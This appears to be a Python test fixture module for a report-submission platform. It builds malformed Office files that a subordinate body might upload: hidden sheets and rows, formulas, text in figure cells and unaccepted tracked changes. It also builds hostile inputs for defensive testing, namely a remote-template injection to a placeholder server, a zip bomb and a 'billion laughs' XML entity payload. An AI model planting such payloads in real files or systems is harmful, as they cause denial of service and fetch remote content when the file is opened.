"""Files that a subordinate body might hand in, right and wrong, by what is wrong with them."""

from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import openpyxl
from docx import Document

from gongkai.documents.annual.writing import Kind, write
from gongkai.law.report.content import Report
from tests.documents.annual.samples import MADE_AT
from tests.law.report.reports import balanced_2021


def handed_in(report: Report, kind: Kind) -> bytes:
    """The file as the platform itself would write it."""
    return write(report, kind, MADE_AT).data


def with_formula(text: str = "=SUM(D6:I6)") -> bytes:
    """A workbook in which one figure is worked out by the sheet."""
    book = openpyxl.load_workbook(BytesIO(handed_in(balanced_2021(), Kind.XLSX)))
    book["表三"]["J6"] = text
    return _saved(book)


def with_hidden_sheet() -> bytes:
    """A workbook with other figures where nobody looks."""
    book = openpyxl.load_workbook(BytesIO(handed_in(balanced_2021(), Kind.XLSX)))
    copy = book.copy_worksheet(book["表四"])
    copy.title, copy["A4"], copy.sheet_state = "旧表", 1, "veryHidden"
    return _saved(book)


def with_hidden_row() -> bytes:
    """A workbook in which a row of table three is not seen."""
    book = openpyxl.load_workbook(BytesIO(handed_in(balanced_2021(), Kind.XLSX)))
    book["表三"].row_dimensions[9].hidden = True
    return _saved(book)


def with_text_for_a_figure() -> bytes:
    """A workbook with words where a number belongs."""
    book = openpyxl.load_workbook(BytesIO(handed_in(balanced_2021(), Kind.XLSX)))
    book["表三"]["J6"] = "约五千"
    return _saved(book)


def _saved(book: openpyxl.Workbook) -> bytes:
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def with_part(kind: Kind, name: str, data: bytes) -> bytes:
    """A container with one part more, or another one in its place."""
    out = BytesIO()
    with ZipFile(BytesIO(handed_in(balanced_2021(), kind))) as old, ZipFile(out, "w", ZIP_DEFLATED) as new:
        for part in old.namelist():
            if part != name:
                new.writestr(part, old.read(part))
        new.writestr(name, data)
    return out.getvalue()


def with_outside_template() -> bytes:
    """A Word file that would fetch its template from a server when it is opened."""
    relations = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="https://example.cn/t.dotm" TargetMode="External"/></Relationships>'
    )
    return with_part(Kind.DOCX, "word/_rels/settings.xml.rels", relations)


def with_changes() -> bytes:
    """A Word file with an insertion that nobody has accepted."""
    made = Document(BytesIO(handed_in(balanced_2021(), Kind.DOCX)))
    paragraph = made.paragraphs[-1]._p
    inserted = paragraph.makeelement("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}ins", {})
    inserted.append(paragraph.r_lst[0])
    paragraph.append(inserted)
    out = BytesIO()
    made.save(out)
    return out.getvalue()


def bomb(kind: Kind) -> bytes:
    """A small container that unpacks to a third of a gigabyte."""
    name = "word/document.xml" if kind is Kind.DOCX else "xl/worksheets/sheet2.xml"
    return with_part(kind, name, b" " * 320_000_000)


def with_entities(kind: Kind) -> bytes:
    """A part whose text doubles itself again and again when it is read."""
    layers = "".join(f'<!ENTITY e{n} "&e{n - 1};&e{n - 1};">' for n in range(1, 30))
    text = f'<!DOCTYPE x [<!ENTITY e0 "0000">{layers}]><x>&e29;</x>'
    name = "word/document.xml" if kind is Kind.DOCX else "xl/worksheets/sheet2.xml"
    return with_part(kind, name, text.encode())
